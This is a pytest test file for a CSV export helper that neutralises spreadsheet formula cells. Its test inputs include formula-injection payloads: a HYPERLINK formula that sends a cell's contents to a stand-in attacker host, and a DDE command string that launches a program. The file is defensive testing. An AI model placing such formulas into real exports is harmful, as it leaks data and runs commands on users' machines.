"""Spreadsheet exports neutralise formula cells."""

from __future__ import annotations

import csv
import io

import pytest

from ecfhub.lib.spreadsheets import neutralise, write_csv


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"],
)
def test_text_a_spreadsheet_would_run_is_kept_as_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Erin Ect", "Ünal-O’Brien", "", "1 = 1", 42, -3, 2.5, None])
def test_everything_else_is_left_alone(value):
    assert neutralise(value) == value


def test_a_csv_written_with_it_reads_back_as_the_neutralised_text():
    out = io.StringIO()
    write_csv(out, [["Name", "Score"], ["=cmd|' /C calc'!A0", -1], ["Erin", 3]])
    assert out.getvalue().endswith("\r\n")
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["Name", "Score"], ["'=cmd|' /C calc'!A0", "-1"], ["Erin", "3"]]
